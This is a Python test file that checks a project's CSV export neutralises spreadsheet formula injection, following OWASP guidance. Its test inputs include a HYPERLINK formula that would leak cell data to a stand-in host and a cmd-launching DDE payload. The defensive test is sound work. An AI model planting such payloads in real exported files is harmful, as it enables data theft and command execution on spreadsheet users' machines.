"""Every CSV the project writes is safe to open in a spreadsheet (OWASP's CSV-injection rule), and reads back."""

from __future__ import annotations

import csv
import io

import pytest

from dlsei.publish.csv_safe import csv_bytes


@pytest.mark.parametrize(
    "hostile",
    ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"],
)
def test_a_cell_that_would_start_a_formula_reads_as_text(hostile: str) -> None:
    data = csv_bytes(("university_id", "seats"), [{"university_id": hostile, "seats": 3}])
    header, row = csv.reader(io.StringIO(data.decode("utf-8-sig")))
    assert header == ["university_id", "seats"]
    assert row == [f"'{hostile}", "3"]
    # Every cell quoted, so a separator or quote inside a value cannot start a cell of its own.
    assert data.decode("utf-8-sig").splitlines()[1].startswith("\"'")


def test_ordinary_values_and_numbers_are_left_alone() -> None:
    rows = [{"a": "U-1", "b": -4, "c": 2.5, "d": "", "e": 'say "hi", then go'}]
    data = csv_bytes(("a", "b", "c", "d", "e"), rows)
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1] == ["U-1", "-4", "2.5", "", 'say "hi", then go']
